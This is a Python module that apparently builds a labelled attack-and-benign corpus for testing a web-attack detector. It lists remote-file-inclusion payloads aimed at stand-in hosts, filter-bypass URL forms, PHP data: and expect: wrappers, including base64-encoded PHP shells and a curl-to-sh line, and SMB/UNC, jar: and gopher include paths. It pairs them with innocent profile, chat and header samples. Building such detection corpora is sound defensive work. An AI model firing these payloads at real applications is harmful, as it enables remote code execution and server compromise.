TRAILING_Q: list[Entry] = [
    # stored: language / skin URL. Sink: PHP include($lang . "/main.php")
    "http://evil.example/shell.txt?",
    "http://203.0.113.90/c.txt?",
    "https://attacker.example/x.php?",
    "http://evil.example/s.txt??",
    "http://evil.example/s.txt?&",
    "http://evil.example/s.txt?x=",
    "http://evil.example/s.txt%3F",
    "http://evil.example/s.txt?/",
    "http://198.51.100.91:81/r.txt?",
    "https://pastebin.com/raw/Xk3q9ZtP?",
    "https://raw.githubusercontent.com/attacker/tools/main/shell.txt?",
    "http://evil.example/inc?",
    "http://evil.example/index.txt?lang=",
    "//evil.example/s.txt?",
    "HTTP://EVIL.EXAMPLE/S.TXT?",
    "http://evil.example/s.gif?",
    "http://xn--80ak6aa92e.com/s.txt?",
    "http://evil.example:80/s.txt?",
    "http://user:pass@evil.example/s.txt?",
    "http://evil.example/s.txt?%00",
    "https://gist.githubusercontent.com/attacker/abc123/raw/s.txt?",
    "http://evil.example/s.txt%3f%3f",
    "http://evil.example/s.txt?=",
    "http://evil.example/s.txt?#",
    "http://evil.example/c99.txt?",
    "http://evil.example/r57.txt?",
    "http://203.0.113.90/s.txt?.php",
    "https://evil.example:8443/inc.txt?",
    # stored: skin URL in a preferences blob and a saved report's link
    ('{"prefs":{"skin":"http://evil.example/skin.txt?","density":"compact"}}', *JB),
    ("http://evil.example/ref.txt?", *REF),
    ("https://attacker.example/ua.txt?", *UA),
    "http://evil.example/s.txt?nocache=1&",
]

# include-parameter-with-url (page/file/template/include/path)
INCLUDE_PARAM: list[Entry] = [
    # stored: saved search / report query strings replayed by the scheduler against the legacy PHP app
    "page=http://203.0.113.100/s.txt?",
    "file=http://evil.example/shell.txt",
    "template=http://evil.example/t.txt?",
    "include=http://198.51.100.101/x.txt",
    "path=http://evil.example/inc/",
    "inc=https://attacker.example/x.txt?",
    "lang=http://evil.example/en.txt?",
    "mod=http://evil.example/m.txt?",
    "module=http://203.0.113.100/mod.txt?",
    "layout=http://evil.example/layout.txt?",
    "theme=http://evil.example/theme.txt?",
    "view=http://evil.example/v.txt?",
    "doc=http://evil.example/d.txt?",
    "cat=http://evil.example/c.txt?",
    "skin=http://evil.example/k.txt?",
    "style=http://evil.example/st.txt?",
    "content=http://evil.example/co.txt?",
    "load=http://evil.example/l.txt?",
    "show=http://evil.example/sh.txt?",
    "site=http://evil.example/si.txt?",
    # register_globals era products: Mambo, phpBB, generic CMS config globals overwritten by the stored link
    "mosConfig_absolute_path=http://evil.example/s.txt?",
    "phpbb_root_path=http://evil.example/?",
    "_CONF[path]=http://evil.example/x.txt?",
    "GLOBALS[config][root]=http://evil.example/r.txt?",
    "DOCUMENT_ROOT=http://evil.example/?",
    "config[incdir]=http://evil.example/i.txt?",
    "abspath=http://evil.example/a.txt?",
    "ROOT_PATH=http://evil.example/rp.txt?",
    # stored: whole links in a notification template, clicked by the admin into the legacy app
    "index.php?page=http://evil.example/s.txt?",
    "/admin/index.php?module=http://203.0.113.100/x.txt?&action=view",
    "main.php?include=https://attacker.example/inc.txt&lang=en",
    "template=http://198.51.100.101/t.txt&page=1",
]

# off-domain-reference
OFF_DOMAIN: list[Entry] = [
    # stored: "import template from URL" and avatar URL fields. Sink: PHP include / require of the fetched file
    "https://attacker.example/shell.txt",
    "//evil.example/inc.txt",
    "http://evil.example/backdoor.php.txt",
    "https://pastebin.com/raw/9vQzT1xY",
    "https://raw.githubusercontent.com/attacker/payloads/main/r.php",
    # the validator checks the URL "contains" or "starts with" our domain
    "http://app.example.com@evil.example/s.txt",
    "http://app.example.com.evil.example/s.txt",
    "https://evil.example/x.txt#app.example.com",
    "https://evil.example\\@app.example.com/s.txt",
    "http://evil.example/s.txt?.app.example.com",
    "https://app.example.com.attacker.example/header.txt",
    # tunnels and collaborator hosts testers use
    "https://3f2a-203-0-113-5.ngrok-free.app/s.txt",
    "http://x7f3kq.oastify.com/inc.txt",
    "https://evil.example/s.txt;.jpg",
    "http://evil.example/s.txt%23.png",
    "https://cdn.evil.example/themes/header.txt",
    "http://evil.example/./s.txt",
    "http://evil.example:8080/s.txt",
    "http://EVIL.example/S.TXT",
    "https://evil.example/uploads/avatar.gif",
    "https://docs.google.com/uc?export=download&id=1AbCdEfGhIjKlMnOpQrStUvWxYz",
    "https://dl.dropboxusercontent.com/s/abc123/shell.txt",
    "https://transfer.sh/AbCd/x.txt",
    "https://evil.example/x.txt\t",
    # stored: PDF notes (wkhtmltopdf) and a report stylesheet (libxslt xsl:import)
    "<script src=\"https://evil.example/p.js\"></script>",
    "<iframe src=\"https://evil.example/steal.html\" width=1 height=1></iframe>",
    "<xsl:import href=\"https://evil.example/x.xsl\"/>",
    # stored: a Twig mail template loaded from a URL the tenant saved
    "{% include 'https://evil.example/t.twig' %}",
    ('{"webhook":{"url":"https://evil.example/hook.txt","template_url":"https://evil.example/body.txt"}}', *JB),
    ("https://attacker.example/referer-inc.txt", *REF),
    ("https://evil.example/agent.txt", *UA),
    "http://evil.example/s.txt%20",
]

# protocols (ftp://, smb://, \\host\share, data:, expect:)
PROTOCOLS: list[Entry] = [
    # stored: include URL in site settings. Sink: PHP include on Linux (ftp, data, expect, ssh2 wrappers)
    "ftp://203.0.113.110/pub/shell.txt",
    "ftp://anonymous:anonymous@203.0.113.110/x.php",
    "ftps://evil.example/inc.txt",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data:text/plain,<?php system('id');?>",
    "data://text/plain;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydjbWQnXSk7Pz4=",
    "data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "expect://ls -la",
    "expect://curl http://203.0.113.110/x|sh",
    "ssh2.exec://user:pass@203.0.113.110:22/id",
    "ssh2.sftp://user:pass@evil.example:22/shell.php",
    "php://filter/resource=http://evil.example/s.txt",
    "compress.zlib://http://evil.example/s.txt",
    # same setting on a Windows host: PHP include of a UNC path fetches over SMB / WebDAV
    "smb://203.0.113.110/share/x.php",
    r"\\203.0.113.110\share\shell.php",
    r"\\evil.example\DavWWWRoot\x.php",
    r"\\evil.example@SSL\DavWWWRoot\s.php",
    r"\\?\UNC\203.0.113.110\share\x.php",
    "file://203.0.113.110/share/x.php",
    "file:////203.0.113.110/share/x.php",
    "//203.0.113.110/share/shell.php",
    # stored: template URL for the Java mail renderer (FreeMarker loader via URLConnection, jar: fetches remote)
    "jar:http://evil.example/x.jar!/x.class",
    "jar:https://evil.example/t.zip!/templates/mail.ftl",
    "ldap://evil.example:389/o=tpl",
    "sftp://evil.example:22/x.txt",
    "tftp://203.0.113.110/x.php",
    "gopher://203.0.113.110:70/_GET%20/shell.txt",
    # stored: avatar URL handed to ImageMagick (url: coder fetches the remote file)
    "url:http://evil.example/x.svg",
    ('{"avatar":{"source":"smb://203.0.113.110/share/a.png","fit":"cover"}}', *JB),
    ("\\\\203.0.113.110\\ua\\x.php", *UA),
    ("ftp://203.0.113.110/ref.txt", *REF),
    ("\\\\evil.example\\share\\invoice.php", *FN),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_CMD),
    ("rce", "unix-shell-expression-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WIN_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_PATHS),
    ("rce", "reverse-shells", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_FILES),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning-targets", LOG_POISON),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", TRAILING_Q),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# include parameters written as `name=value` go unquoted where a pair can stand as it is
RAW_KV_SUBS = {"include-parameter-with-url"}
PAIR = re.compile(r"^[A-Za-z_][\w\[\]]*=")
# a raw form body keeps what a form parser reads as it is; only what would break the body is encoded
RAW_BODY_SAFE = "!\"'()*,-./:;<=>?@[\\]^_`{|}~$#"
FIELD_NAMES = {
    "rce": ["display_name", "filename", "signature", "hostname", "backup_target", "export_name", "address",
            "bio", "subject"],
    "lfi": ["template", "avatar_path", "attachment", "theme", "locale", "layout", "report_file", "logo", "file"],
    "rfi": ["webhook_url", "avatar_url", "template_url", "feed_url", "website", "import_url", "header_url",
            "callback", "skin"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("form", "query", "param-name", "cookie", "rs-query", "rs-form", "rs-raw-body", "rs-cookie",
                  "rs-param-name")
    one_line = ("cookie", "rs-cookie", "multipart-filename", "rs-multipart-filename")
    unique = True
    fit_fixed = True
    real_cycle = ("json", "form", "query", "header:User-Agent", "multipart-field", "header:Referer", "cookie",
                  "xml", "multipart-filename", "param-name", "path")
    rs_cycle = ("rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent",
                "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie", "rs-param-name", "rs-multipart-filename")
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = FIELD_NAMES[category]
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """An include parameter written as `name=value` is the pair itself, fixed place or not."""
        return sub in self.raw_subs and PAIR.match(payload) is not None

    def _p_rs_raw_body(self, p: Put) -> Record:
        if p.raw or p.latin:
            return super()._p_rs_raw_body(p)
        return request("POST", p.path, p.name + "=" + self.enc(p.v, False, RAW_BODY_SAFE), FORM)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: real people filling the same stored fields innocently (display names and bios with apostrophes, quotes,
# emoji, other scripts and titles; addresses with unit numbers and symbols; saved search names; notification
# templates with the placeholders the product documents; real documents' file names; webhook URLs of well-known
# services; Slack messages about editing profiles and settings)
CHAT = [
    # Slack: editing profiles and settings
    "just updated my display name to include my pronouns, let me know if it looks weird in the directory",
    "how do I change my bio? the edit button on my profile is greyed out",
    "my address still shows the old flat, I moved to Apt 4B in March",
    "can someone with admin rights fix my title? it should say Sr. Engineer, not Sn. Engineer",
    "set my status to 'out sick' and the notification settings to mentions only",
    "the new profile page lets you add a pronunciation guide for your name, nice touch",
    "I saved the search 'new hires - Lisbon office' as a report, it runs every Monday at 9",
    "does the saved report 'contractors | ending this month' email the whole team or just me?",
    "changed the webhook to our new Slack channel #ops-alerts, old one is archived",
    "the Teams webhook stopped working after IT rotated the connector, I'll paste the new URL in settings",
    "PagerDuty integration key is in the vault, don't paste it into the settings page screenshot",
    "who owns the welcome e-mail template? it still says 'Hi {{first_name}}, welcome to Acme!' with the old logo",
    "the notification template supports {{user.name}}, {{team.name}} and {{link}}, that's all per the docs",
    "the reminder mail uses {first_name} in single braces on the legacy plan, double braces on the new one",
    "tip: in the digest template you can write {{#each items}} ... {{/each}} to list the week's signups",
    "uploaded the signed lease as 'Lease Agreement - Apt 4B (signed).pdf', HR needs it for the relocation",
    "the import failed on row 212, the address had a semicolon in it: 'Unit 5; Rear Building'",
    "CSV import tip: a name like =Smith starts with an equals sign, wrap it in quotes or Excel eats it",
    "the PDF export of the roster cuts off long names like 'Maximilian von Hohenzollern-Sigmaringen'",
    "I set my timezone to Asia/Kolkata but the calendar still shows UTC",
    "can we allow emoji in display names? half the design team already has 🎨 in theirs",
    "my name is 李小龍 in the HR system but the directory shows question marks",
    "the directory search handles Zoë and Zoe the same now, thanks to whoever fixed that",
    "locale is set to pt-BR but the dates are still MM/DD, bug or setting?",
    "the theme setting has 'dark', 'light' and 'system', I picked system",
    "admins: the audit log shows who changed a profile field and when, under Settings > Activity",
    "the log viewer in admin shows my user agent as Safari on iPad, that's right, I was travelling",
    "the Referer column in the access report is mostly google.com and our own wiki",
    "renamed the saved filter 'team = infra & role = oncall' to just 'infra on-call'",
    "the backup job's target is the eu-west bucket now, settings updated by Priya",
    "health-check host is set to status.example.com, ping from the dashboard works",
    "the cron for the nightly export runs at 02:15 UTC, the file lands in the shared drive as users-YYYY-MM-DD.csv",
    "I put my address as '221B Baker St, London NW1 6XE' for the swag shipment, is that enough?",
    "signature updated: 'Kind regards, Dr. Amélie Durand — Head of Research'",
    "shipping address needs the c/o line: 'c/o Müller & Söhne GmbH, Hof 3, 2. OG'",
    "the export file name template is {team}-{date}.xlsx, I changed it to {date}-{team}.xlsx for sorting",
    "the webhook secret field is write-only, you can't read it back after saving, by design",
    "if your bio has a link, it shows as a button now instead of plain text",
    "set the avatar to our office dog 🐕, it's the best profile picture in the company",
    "the Zapier hook posts every new signup to the sales sheet, we set it up last week",
    # bios
    "Senior Product Designer. She/her. Coffee ☕, climbing 🧗, and too many fonts.",
    "Dr. Kwame Mensah — epidemiologist, runner, dad of two. \"Data before opinions.\"",
    "O'Neill, not O'Neil. Backend engineer, mostly Go. Ask me about queues.",
    "Support lead (EMEA) | Deutsch, English, Français | Mon-Thu",
    "プロダクトマネージャー。東京オフィス勤務。よろしくお願いします！",
    "Инженер по данным, Москва → Берлин. Пишу на Python и SQL.",
    "مهندسة برمجيات في فريق البنية التحتية، دبي",
    "Ingeniera de QA 🇲🇽 | Amante del café y de los tests automatizados",
    "Head of People. Previously at a 12-person startup & a 12,000-person bank.",
    "\"Move fast & fix things\" — SRE, on call every 4th week",
    "Recruiter @ Acme (we're hiring!). Pronouns: he/him. Based in São Paulo.",
    "Part-time researcher, full-time cat person 🐈‍⬛. Views are my own.",
    "Account manager for the Nordics; say hej, hei or hæ",
    "Finance analyst — spreadsheets, forecasts, and the occasional 100% accurate guess",
    "Mobile dev (iOS/Android). Currently rewriting the settings screen, again.",
    "Legal counsel. I read the terms & conditions so you don't have to.",
    "Customer success, APAC. 한국어 / English. Mornings are for tickets.",
    "Developer advocate. Writes docs, gives talks, answers 'how do I...?' on Slack",
    "Intern, summer '24 — learning everything, breaking nothing (so far)",
    "Office manager, London. Parcels, plants and the fire-drill rota.",
    "Data protection officer. Please don't put customer data in your bio 🙃",
    "Designer & illustrator. Portfolio link below. ✏️",
    "Technical writer: if the docs are wrong, tell me, I'll fix them.",
    "Engineering manager, Platform team. 1:1s on Tuesdays.",
    "QA automation — Cypress, Playwright, and a lot of patience",
    "Mx. Jordan Ellis, they/them. Community & events.",
    "Sales engineer; demos, POCs, and long flights ✈️",
    "Infra on-call this week. Page me, don't DM me.",
]

SEARCHES = [
    "O'Neill", "Zoë", "José García", "李", "Müller", "Dr. Mensah", "Apt 4B", "Baker St", "São Paulo",
    "new hires - Lisbon office", "contractors | ending this month", "infra on-call", "team:design",
    "role:admin", "Mx. Ellis", "d'Souza", "van der Berg", "Nguyễn", "pronouns", "c/o", "Unit 5",
    "#ops-alerts", "webhook", "template", "signature", "theme dark", "timezone", "locale pt-BR",
    "export", "backup", "report", "avatar", "bio", "address", "settings", "notification", "Jürgen",
    "Ólafur", "Anne-Marie", "St. John",
]

URLS = [
    "https://hooks.slack.com/services/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",
    "https://discord.com/api/webhooks/1234567890123456789/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "https://acme.webhook.office.com/webhookb2/3f1e9c2a-7b4d-4e8f-9a61-2c5d8e0b7f14@"
    "9a7c1e2f-3b4d-4c5e-8f6a-0b1c2d3e4f5a/IncomingWebhook/5e6f7a8b9c0d/1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d",
    "https://hooks.zapier.com/hooks/catch/1234567/3ab9xyz/",
    "https://events.pagerduty.com/v2/enqueue",
    "https://api.github.com/repos/acme/directory/dispatches",
    "https://outlook.office.com/mail/",
    "https://calendly.com/amelie-durand/30min",
    "https://www.linkedin.com/in/kwame-mensah-epi/",
    "https://github.com/oneill-dev",
    "https://dribbble.com/jordan-ellis",
    "https://www.behance.net/anamoraes",
    "https://docs.example.com/settings/notifications#template-placeholders",
    "https://docs.example.com/admin/saved-reports?tab=schedule",
    "https://help.example.com/articles/how-to-change-your-display-name",
    "https://maps.google.com/?q=221B+Baker+St,+London+NW1+6XE",
    "https://www.openstreetmap.org/#map=18/38.71080/-9.13990",
    "https://gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200&d=identicon",
    "https://example.sharepoint.com/sites/HR/Shared%20Documents/Lease%20Agreement%20-%20Apt%204B.pdf",
    "https://drive.google.com/file/d/1Zx8Qm2vLk7PqRs9TuV0wXyZaBcDeFgHi/view?usp=sharing",
]

PROSE = [
    "Hi {{first_name}}, welcome to {{team.name}}! Your manager is {{manager.name}}.",
    "Reminder: {{event.title}} starts at {{event.start_time}}. Join here: {{link}}",
    "Your password was changed on {{date}}. If this wasn't you, contact support.",
    "Weekly digest for {{team.name}}: {{count}} new members this week",
    "Dear {first_name}, your profile is {percent}% complete.",
    "new hires - Lisbon office",
    "contractors | ending this month",
    "infra on-call (weekends)",
    "people with no manager set",
    "profiles missing an address",
    "accounts created by import 2024-06-03",
    "users with 2FA off",
    "Apt 4B, 17 Rua da Prata",
    "Unit 5; Rear Building, 12 Harbour Rd",
    "c/o Müller & Söhne GmbH, Hof 3, 2. OG",
    "PO Box 1024, Station A",
    "Flat 3/2, 45 Great Western Rd, Glasgow",
    "Suite #300, 1 Market St",
    "O'Neill, Seán",
    "Dr. Amélie Durand",
    "Mx. Jordan Ellis",
    "李小龍",
    "Nguyễn Thị Mai",
    "\"JJ\" Jean-Jacques Rousseau",
    "Zoë Saldaña-Ruiz",
    "webhook failures last 7 days",
    "export file naming: {date}-{team}.xlsx",
    "theme = dark, locale = de-DE",
    "notification settings: mentions only",
    "backup target changed by priya",
]

PROFILES = [
    ("Seán O'Neill", "Apt 4B, 17 Rua da Prata, 1100-414 Lisboa"),
    ("Dr. Amélie Durand", "12 bis rue des Lilas, 75019 Paris"),
    ("Kwame Mensah, PhD", "House No. 7, Ring Road East, Accra"),
    ("李小龍", "香港九龍彌敦道 123 號 5 樓 B 室"),
    ("山田 太郎", "東京都渋谷区神南1-2-3 #402"),
    ("Jürgen Müller-Lüdenscheidt", "c/o Müller & Söhne GmbH, Hof 3, 2. OG, 80331 München"),
    ("Zoë Saldaña-Ruiz 🌻", "Calle de Alcalá 45, 3º Izq., 28014 Madrid"),
    ("Mx. Jordan Ellis", "Flat 3/2, 45 Great Western Rd, Glasgow G12 8RB"),
    ("Nguyễn Thị Mai", "Số 12, Ngõ 34, Phố Huế, Hà Nội"),
    ("\"JJ\" Jean-Jacques Rousseau", "Rue du Rhône 8, 1204 Genève"),
    ("Priya D'Souza", "Flat #12-A, Sea View Apts, Bandra (W), Mumbai 400050"),
    ("Ólafur Ragnarsson", "Laugavegur 22a, 101 Reykjavík"),
    ("Anne-Marie St. John", "Suite #300, 1 Market St, San Francisco, CA 94105"),
    ("Mohammed Al-Farsi", "Building 14, Street 7, Al Olaya, Riyadh 12211"),
    ("Ana Moraes 🎨", "Rua Oscar Freire, 900 - apto 71, São Paulo - SP, 01426-001"),
    ("Björn Åkesson", "Storgatan 5 lgh 1102, 111 51 Stockholm"),
    ("Maximilian von Hohenzollern-Sigmaringen", "Karlstraße 3, 72488 Sigmaringen"),
    ("Chloé O'Brien-Dupont", "Unit 5; Rear Building, 12 Harbour Rd, Plymouth PL1 2AA"),
    ("Ivan Petrov (Иван Петров)", "ул. Тверская, д. 7, кв. 15, Москва"),
    ("Fatima Zahra Benali", "Résidence Al Amal, Imm. 4, Apt 12, Casablanca"),
    ("Kim Min-jun 김민준", "서울특별시 강남구 테헤란로 123, 10층"),
    ("Dr. med. Hans-Peter Weiß", "Praxis am Markt, Marktplatz 1 (2. OG), 69117 Heidelberg"),
    ("Sarah \"Sal\" Cohen", "PO Box 1024, Station A, Toronto ON M5W 1A1"),
    ("Tomás Ó Briain", "Apt. 2, 14 Grafton St, Dublin 2, D02 VF65"),
    ("Lerato Nkosi", "Unit 7, 21 Jan Smuts Ave, Rosebank, Johannesburg 2196"),
    ("Aroha Te Rangi", "Level 3, 88 Queen St, Auckland 1010"),
    ("Giulia D'Amico", "Via dell'Orso 12, int. 5, 00186 Roma"),
    ("Rajesh Kumar & Family", "H.No. 4-5-6/A, Road No. 12, Banjara Hills, Hyderabad 500034"),
    ("Ewa Wiśniewska", "ul. Świętokrzyska 30/63, 00-116 Warszawa"),
    ("José García (Pepe)", "Av. Insurgentes Sur 1234 Int. 5-B, Col. del Valle, CDMX"),
]

UPLOAD_NAMES = [
    "Lease Agreement - Apt 4B (signed).pdf",
    "José_García_CV_2024.docx",
    "Q2 report v2 (final) [approved].xlsx",
    "scan 2024-06-03 #2.jpg",
    "résumé - Amélie Durand.pdf",
    "IMG_20240603_142201.HEIC",
    "team-photo_offsite'24.png",
    "users-2024-06-03.csv",
    "new hires - Lisbon office.csv",
    "W-4 2024 (signed).pdf",
    "passport_scan_front&back.pdf",
    "Expense report — May 2024.xlsx",
    "李小龍-合同.pdf",
    "Müller & Söhne invoice #4471.pdf",
    "welcome-email-template.html",
    "notification-templates-v3.json",
    "org-chart (draft) 2024.pptx",
    "Screenshot 2024-06-04 at 09.15.22.png",
    "avatar@2x.png",
    "signature_logo.svg",
    "O'Neill - reference letter.docx",
    "address-change-form_filled.pdf",
    "contractors_ending_this_month.xlsx",
    "health insurance card (copy).jpg",
    "Board minutes 12.03.2024.docx",
    "offsite agenda v1.2.pdf",
    "settings-export-2024-06-01.json",
    "Zoë's farewell card.png",
    "benefits_guide_2024_EN+DE.pdf",
    "roster_Q3 - final FINAL.xlsx",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.6422.113 Mobile Safari/537.36"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("User-Agent", "Zapier"),
    ("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)"),
    ("User-Agent", "PagerDuty-Webhook/V3.0"),
    ("Referer", "https://app.example.com/settings/profile"),
    ("Referer", "https://app.example.com/settings/notifications?tab=templates"),
    ("Referer", "https://app.example.com/admin/reports/saved?name=new%20hires%20-%20Lisbon%20office"),
    ("Referer", "https://app.example.com/admin/logs?filter=user_agent%3ASafari"),
    ("Referer", "https://www.google.com/"),
    ("Referer", "https://acme.slack.com/archives/C024BE91L/p1717400000000100"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en;q=0.6"),
    ("Cookie", "session=abc123; theme=dark; locale=de-DE; tz=Europe%2FBerlin"),
    ("Cookie", "session=abc123; saved_filter=infra%20on-call; density=compact"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d1f2e3a-4b5c-4d6e-8f70-9a1b2c3d4e5f"),
    ("If-Modified-Since", "Mon, 03 Jun 2024 09:00:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
